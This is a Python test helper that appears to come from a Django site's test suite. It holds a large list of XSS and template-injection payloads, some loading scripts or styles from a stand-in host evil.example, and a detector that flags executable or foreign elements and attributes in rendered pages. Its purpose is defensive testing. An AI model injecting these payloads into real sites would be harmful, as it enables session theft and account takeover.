"""Texts that try to act, and how to see in a page that one does."""

import re

from bleach._vendor import html5lib

# These try to leave the element or the attribute they are printed in.
BREAKOUTS = [
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title></head><body onload=alert(1)>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "--><svg onload=alert(1)>",
    "]]></option></select><iframe src=javascript:alert(1)>",
]
ACTING = [
    *BREAKOUTS,
    "<ScRiPt/x src=//evil.example/x.js></sCrIpT >",
    "<img/src='x'/onerror\n=\nalert(1)//>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscr\nipt:alert(1)'>x</a>",
    "<a href=' &#14; &#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    '<p>https://a.com/"><img src=x onerror=alert(1)></p>',
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button formaction=javascript:alert(1)>x</form>",
    "<details open ontoggle=alert(1)>",
]
# These act only where something strips, decodes, links or renders them once more.
DORMANT = [
    "{{7*7}}{% load static %}{{ request.user.password }}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p>https://youtu.be/x'onclick=alert(1)</p>",
    "<p>javascript:alert(1)//http://a.com</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
PAYLOADS = ACTING + DORMANT
FEW = [*BREAKOUTS, DORMANT[0]]
NEVER = {"iframe", "object", "embed", "applet", "base", "frame", "style", "math"}
NEVER |= {"animate", "set", "foreignobject", "mglyph", "xmp", "template", "portal"}
NEVER_ON_ANY = {"style", "srcdoc", "formaction", "http-equiv", "ping"}
LEADS = {"href", "src", "action", "data", "poster", "background", "cite"}
OUR_ACT = re.compile(r"/admin/articles/article/[0-9]+/desk/[a-z0-9/-]*")
CARRIED_OUT = re.compile(r"(?i)[a-z]*script:|data:|//")


def faults(html):
    """All that acts in a page and is not ours, for browsers with script or without."""
    found = []
    for scripting in (True, False):
        page = html5lib.parse(html, namespaceHTMLElements=False, scripting=scripting)
        elements = [element for element in page.iter() if isinstance(element.tag, str)]
        found += [fault for element in elements for fault in faults_of(element)]
    return found


def faults_of(element):
    tag, *names = (n.rpartition("}")[2].lower() for n in [element.tag, *element.attrib])
    attributes = dict(zip(names, element.attrib.values(), strict=True))
    if tag in NEVER or is_foreign(tag, attributes):
        yield f"<{tag}> {attributes}"
    for name, value in attributes.items():
        acts = name.startswith("on") or name in NEVER_ON_ANY
        acts = acts and not (name == "formaction" and OUR_ACT.fullmatch(value))
        address = re.sub(r"[\x00-\x20]", "", value)
        if acts or (name in LEADS and CARRIED_OUT.match(address)):
            yield f"<{tag} {name}={value!r}>"


def is_foreign(tag, attributes):
    """Scripts, styles, pictures and forms that no template of ours prints."""
    if tag == "script":
        is_import_map = attributes.get("type") == "importmap" and "nonce" in attributes
        is_ours = attributes.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
        is_data = attributes == {"type": "application/ld+json"}
        return not (is_ours or is_import_map or is_data)
    if tag == "link" and attributes.get("type") == "application/atom+xml":
        return not re.fullmatch(r"/(?:[\w-]+/)*feed/", attributes.get("href", ""))
    if tag == "link" and attributes.get("rel") != "canonical":
        return not attributes.get("href", "").startswith("/static/")
    if tag == "img":
        return not attributes.get("src", "").startswith(("/static/", "/media/"))
    if tag == "svg":  # the admin's switch of colours
        return not attributes.get("class", "").startswith(("theme-icon", "base-svgs"))
    return tag == "form" and attributes.get("action", "/")[:1] != "/"


def texts_of(page, kind):
    """The text of each element with that class."""
    elements = page.findall(".//*[@class]")
    found = [e for e in elements if kind in e.get("class").split()]
    return ["".join(element.itertext()).strip() for element in found]


def parsed(response):
    return html5lib.parse(response.content.decode(), namespaceHTMLElements=False)
